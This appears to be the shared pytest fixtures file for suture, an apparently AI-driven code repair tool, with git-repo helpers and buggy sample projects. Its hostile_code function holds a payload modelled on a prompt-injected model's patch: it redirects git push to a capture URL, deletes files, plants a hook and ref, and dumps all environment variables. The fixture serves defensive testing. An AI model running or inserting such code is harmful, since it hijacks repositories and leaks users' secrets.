"""Shared fixtures: small real git repositories built in tmp dirs."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

GIT_ENV = {
    "GIT_AUTHOR_NAME": "suture tests",
    "GIT_AUTHOR_EMAIL": "tests@suture.invalid",
    "GIT_COMMITTER_NAME": "suture tests",
    "GIT_COMMITTER_EMAIL": "tests@suture.invalid",
}

# The suite's tests watch their runs from outside (pid files in tmp dirs, pids they signal), so
# they run without bubblewrap, as on CI, where it is not installed; tests of the sandbox itself
# ask for it explicitly (tests/test_sandbox.py).
os.environ.setdefault("SUTURE_SANDBOX", "none")
# Counting an accepted optimize edit's instructions under valgrind costs a dozen CPU seconds per
# run (interpreter start-up under callgrind, twice) and no test but one asserts the count: that
# one (tests/test_cli_optimize.py) turns it back on.
os.environ.setdefault("SUTURE_CALLGRIND", "off")

AUTOLOAD_ENV = "PYTEST_DISABLE_PLUGIN_AUTOLOAD"


@pytest.fixture(scope="session", autouse=True)
def _fixture_repos_without_autoloaded_plugins():
    """The small repos' pytest runs (baselines, gates, confirmations, coverage) load no plugin by entry
    point: suture's own venv has hypothesis, xdist, anyio and platformdirs registered, none of which
    those repos use, and they made up half of each fresh pytest's 0.65 CPU-s (hypothesis imports
    itself whole at session end). suture passes its own plugins with -p, which the variable leaves
    alone; suture's children inherit it through tools/childenv.project_env like any variable.

    Set here, in the process that runs the tests (an xdist worker, or the one process without -n),
    not at import: the xdist controller imports this file before it starts its workers, which need
    their own plugins autoloaded. tests/test_plugin_autoload.py unsets it to prove a user's
    autoloaded plugin still reaches every run of `suture fix`.
    """
    os.environ.setdefault(AUTOLOAD_ENV, "1")


@pytest.fixture(scope="session", autouse=True)
def _interrupts_reach_the_processes_tests_start():
    """A suite started as a background job of a non-interactive shell (`cmd &`, some CI runners)
    inherits SIGINT ignored, and an ignored signal stays ignored across exec: every suture process
    a Ctrl-C test starts would then never see the SIGINT the test sends (six such tests failed in a
    loaded loop run for that reason alone). A handled signal is reset to the default on exec, so
    handling it here gives the tests' children the disposition a terminal gives a user's suture.
    """
    import signal

    if signal.getsignal(signal.SIGINT) is signal.SIG_IGN:
        signal.signal(signal.SIGINT, signal.default_int_handler)


def pytest_configure(config):
    """Compile suture's own sources to bytecode once, before any test starts a suture process.

    The editable install leaves suture's modules as sources, and where PYTHONDONTWRITEBYTECODE is set
    (this machine sets it globally) no process caches what it compiled: every suture process the suite
    starts (each CLI run, warm pytest server, timing harness, evidence child) compiled its ~110 modules
    again, about 0.3 CPU-s each. The variable only stops writing; compiled files are still read. Done
    in the process that starts the xdist workers (or the one process without -n), not in the workers.
    """
    if hasattr(config, "workerinput"):
        return
    import compileall
    import importlib

    for name in ("agent", "tools", "retrieval", "prompts"):  # pyproject's package-dir: suture.<name>
        for folder in importlib.import_module(f"suture.{name}").__path__:
            compileall.compile_dir(folder, quiet=1, workers=1)
    # The same for pytest's rewrite of the test modules and plugin packages, which every worker reads, and of
    # suture's own pytest plugins, which every pytest the tests' suture runs start is given with -p.
    from rewrite_cache import write_rewritten

    rooms = [folder for name in ("agent", "tools") for folder in importlib.import_module(f"suture.{name}").__path__]
    write_rewritten(config, Path(__file__).parent, rooms)


@pytest.hookimpl(trylast=True)
def pytest_collection_modifyitems(items):
    """Tests marked `slow` (tens of seconds each) run first, in their usual order.

    With pyproject's `--dist worksteal` a worker that runs out of tests takes half of the other's
    queue; slow tests at the front keep the last minutes for short tests both workers share, not
    one long test running alone at the end.
    """
    items.sort(key=lambda item: item.get_closest_marker("slow") is None)


def git(repo: Path, *args: str) -> str:
    """Run git in `repo` with a fixed identity; return stdout."""
    env = {**os.environ, **GIT_ENV}
    done = subprocess.run(["git", *args], cwd=repo, env=env, check=True, capture_output=True, text=True)
    return done.stdout


def write_files(root: Path, files: dict[str, str | bytes]) -> None:
    for rel, content in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(textwrap.dedent(content))


def init_repo(root: Path, files: dict[str, str | bytes], commit: bool = True) -> Path:
    """Create a git repo at `root` holding `files` (text is dedented), committed once."""
    root.mkdir(parents=True, exist_ok=True)
    git(root, "init", "-q", "-b", "main")
    write_files(root, files)
    if commit:
        git(root, "add", "-A")
        git(root, "commit", "-q", "-m", "initial")
    return root


@pytest.fixture
def make_repo(tmp_path):
    """make_repo(files, name="repo", commit=True) -> Path of a fresh git repo."""

    def make(files: dict[str, str | bytes], name: str = "repo", commit: bool = True) -> Path:
        return init_repo(tmp_path / name, files, commit=commit)

    return make


def repo_snapshot(repo: Path, prune: bool = False) -> dict[str, object]:
    """Everything of the user's that suture must not change: files (suture's own .suture/ aside),
    index, HEAD and the branch it names, refs, stash and worktrees.

    `prune` first lets git forget worktrees whose directories are gone, for tests that
    remove scratch trees by deleting them.
    """
    if prune:
        git(repo, "worktree", "prune")
    files = {
        p.relative_to(repo).as_posix(): p.read_bytes()
        for p in sorted(repo.rglob("*"))
        if p.is_file() and not {".git", ".suture"} & set(p.relative_to(repo).parts)
    }
    return {
        "files": files,
        "status": git(repo, "status", "--porcelain", "--untracked-files=all"),
        "index": git(repo, "ls-files", "--stage"),
        "head": git(repo, "rev-parse", "HEAD"),
        "head_ref": git(repo, "rev-parse", "--symbolic-full-name", "HEAD"),
        "branches": git(repo, "for-each-ref", "--format=%(refname) %(objectname)"),
        "stash": git(repo, "stash", "list"),
        "worktrees": git(repo, "worktree", "list", "--porcelain"),
    }


# -- hostile code (issue 16): what a prompt-injected model's patch or a hostile repository's tests do --


def hostile_code(capture_url: str, probe: Path) -> str:
    """Python that, once imported, does what issue 16 saw a patch and a test do."""
    return f'''
import json as _json, os as _os, pathlib as _pathlib, subprocess as _subprocess


def _attack():
    # Point the checkout's push at another host...
    _subprocess.run(["git", "config", "remote.origin.pushurl", {capture_url!r}], capture_output=True)
    # ...ask git for the common .git directory, and go for the tree that holds it.
    common = _subprocess.run(["git", "rev-parse", "--path-format=absolute", "--git-common-dir"],
                             capture_output=True, text=True).stdout.strip()
    if common:
        git_dir = _pathlib.Path(common)
        for victim in git_dir.parent.glob("*.txt"):
            victim.unlink()
        with open(git_dir / "config", "a") as config:
            config.write('[remote "origin"]\\n\\tpushurl = {capture_url}\\n')
        _subprocess.run(["git", "--git-dir", str(git_dir), "update-ref", "refs/heads/pwned", "HEAD"],
                        capture_output=True)
        hooks = git_dir / "hooks"
        hooks.mkdir(exist_ok=True)
        (hooks / "pre-commit").write_text("#!/bin/sh\\nexit 0\\n")
    # ...and write down every variable it was given.
    with open({str(probe)!r}, "a") as out:
        out.write(_json.dumps(dict(_os.environ)) + "\\n")


_attack()
'''


def user_state(repo: Path) -> dict[str, object]:
    """Checksums of all the user has: files (untracked too), .git/config, hooks, refs, index, HEAD."""
    git_dir = repo / ".git"
    hooks = sorted(p.name for p in (git_dir / "hooks").iterdir()) if (git_dir / "hooks").is_dir() else []
    return {
        **repo_snapshot(repo),
        "config": hashlib.sha256((git_dir / "config").read_bytes()).hexdigest(),
        "hooks": hooks,
        "packed_refs": (git_dir / "packed-refs").read_bytes() if (git_dir / "packed-refs").exists() else b"",
    }


def suture(*args: str, cwd: Path, timeout: float = 300) -> subprocess.CompletedProcess:
    """The real CLI in a subprocess, as a user runs it."""
    return subprocess.run([sys.executable, "-m", "suture.agent.cli.main", *args], cwd=cwd,
                          capture_output=True, text=True, timeout=timeout)


def last_json(done: subprocess.CompletedProcess) -> dict:
    """The one JSON object a --json command prints as its last stdout line."""
    return json.loads(done.stdout.strip().splitlines()[-1])


# A bug no repair template reaches (a quoted CSV field needs a real CSV reader): the planner's
# and the verifier gate's end-to-end tests share it.
CSV_BUG = {
    "contacts/__init__.py": "",
    "contacts/records.py": """
        import csv


        def parse_line(line):
            return line.split(",")


        def names(text):
            return [parse_line(row)[0] for row in text.splitlines() if row]
    """,
    "tests/test_records.py": """
        from contacts.records import names, parse_line

        def test_plain():
            assert parse_line("ada,london") == ["ada", "london"]

        def test_quoted_comma():
            assert parse_line('"lovelace, ada",london') == ["lovelace, ada", "london"]

        def test_names():
            assert names("ada,london\\nalan,wilmslow\\n") == ["ada", "alan"]
    """,
}


# The bulk discount starts one item too late (`>` for `>=`): the rule engine repairs it. Shared by
# the fix, hook and GitHub Action tests.
PRICES_BUG = {
    "shop/__init__.py": "",
    "shop/prices.py": """
        BULK = 10


        def unit_price(cents, quantity):
            \"\"\"Ten or more items cost 10% less each.\"\"\"
            if quantity > BULK:
                return cents * 9 // 10
            return cents


        def total(cents, quantity):
            return unit_price(cents, quantity) * quantity
    """,
    "tests/test_prices.py": """
        from shop.prices import total, unit_price

        def test_small_order():
            assert total(100, 2) == 200

        def test_bulk_order_at_threshold():
            assert total(100, 10) == 900

        def test_big_order():
            assert total(100, 20) == 1800

        def test_unit_price():
            assert unit_price(50, 1) == 50
    """,
}


# Quadratic membership with ONE rewrite to find: the stop list becomes a set built once, and after
# that no rule applies, so an optimize run measures one candidate (QUADRATIC_DEDUPE's set rewrite is
# followed by a round of method-alias candidates, each verified and timed: about twice the run time).
# Hundreds of times faster at the workload's scale.
QUADRATIC_STOPWORDS = {
    "words/__init__.py": "",
    "words/filter.py": """
        def content(words: list[str], stop: list[str]) -> list[str]:
            \"\"\"The words that are not stop words, in order.\"\"\"
            return [w for w in words if w not in stop]
    """,
    "tests/test_filter.py": """
        from words.filter import content

        def test_order():
            assert content(["a", "the", "b", "a"], ["the"]) == ["a", "b", "a"]

        def test_empty():
            assert content([], ["x"]) == []
    """,
}
STOPWORDS_WORKLOAD = """
def make_input(scale):
    return ([f"w{(i * 7919) % (scale * 120)}" for i in range(scale * 100)], [f"w{i}" for i in range(scale * 60)])
"""


# A quadratic membership test, hundreds of times slower than a set at the workload's scale: the
# optimize and GitHub Action tests.
QUADRATIC_DEDUPE = {
    "uniq/__init__.py": "",
    "uniq/core.py": """
        def dedupe(items: list[int]) -> list[int]:
            \"\"\"Items in first-seen order, without repeats.\"\"\"
            seen = []
            out = []
            for item in items:
                if item not in seen:
                    seen.append(item)
                    out.append(item)
            return out
    """,
    "tests/test_core.py": """
        from uniq.core import dedupe

        def test_order():
            assert dedupe([3, 1, 3, 2, 1]) == [3, 1, 2]

        def test_empty():
            assert dedupe([]) == []
    """,
}
